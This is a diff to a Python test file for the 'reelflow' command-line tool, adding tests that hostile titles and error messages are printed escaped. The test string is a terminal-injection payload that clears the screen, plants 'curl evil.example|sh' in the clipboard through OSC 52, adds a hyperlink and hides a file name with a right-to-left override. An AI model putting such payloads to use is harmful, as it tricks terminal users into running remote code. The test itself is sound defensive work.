@@ -1,5 +1,6 @@
 """``reelflow`` prints a title, an error message or a path as it was sent: brackets in them are
-text, never terminal markup (which would drop them, restyle the line, or stop the command)."""
+text, never terminal markup (which would drop them, restyle the line, or stop the command),
+and a character a terminal would act on is shown as its escape, never sent to the terminal."""
 
 from __future__ import annotations
 
@@ -114,3 +115,46 @@ def test_a_long_line_stays_one_line_in_a_pipe(monkeypatch: pytest.MonkeyPatch) -
     [summary] = [line for line in result.stdout.splitlines() if PROJECT_ID in line]
     assert summary.startswith(title)
     assert summary.endswith("of 1")
+
+
+#: an attacker's walkthrough: a title that clears the screen, writes the clipboard (OSC 52:
+#: ``curl evil.example|sh``), opens a hyperlink, and reverses the text after it
+HOSTILE = (
+    "Q4\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x1b\\ \x9b31m"
+    "\x1b]8;;http://evil.example\x1b\\click\u202e txt.exe"
+)
+HOSTILE_SHOWN = (
+    "Q4\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\\x1b\\ \\x9b31m"
+    "\\x1b]8;;http://evil.example\\x1b\\click\\u202e txt.exe"
+)
+
+
+def acted_on(text: str) -> list[str]:
+    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
+
+
+def test_list_shows_a_hostile_title_escaped_and_sends_no_control_character() -> None:
+    out = io.StringIO()
+    item = PROJECT | {"title": HOSTILE, "created_at": "2026-12-04T10:11:12Z"}
+    project_list(Console(file=out, width=400), {"items": [item]})
+
+    assert acted_on(out.getvalue()) == []
+    assert "Q4\\x1b[2J" in out.getvalue()
+
+
+def test_get_and_watch_show_a_hostile_title_and_error_escaped(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    failed = {"scene_index": 0, "task_uuid": TASK, "status": "failed"}
+    error = {"code": "x", "message": HOSTILE}
+    hostile = PROJECT | {"title": HOSTILE, "results": [failed | {"error": error}]}
+    result = invoke(monkeypatch, httpx.Response(200, json=hostile), "get", PROJECT_ID)
+    assert result.exit_code == 0, result.stderr
+    assert acted_on(result.stdout) == []
+    assert HOSTILE_SHOWN in result.stdout.replace("\n", "")
+
+    out = io.StringIO()
+    state = ProjectState(project_id=PROJECT_ID, title=HOSTILE)
+    state.clips[0] = ClipState(task_uuid=TASK, scene_index=0, status="failed", error=HOSTILE)
+    ClipLines(Console(file=out, width=400)).show({}, state, changed=True)
+    assert out.getvalue().splitlines() == [f"scene 0: failed {HOSTILE_SHOWN}"]
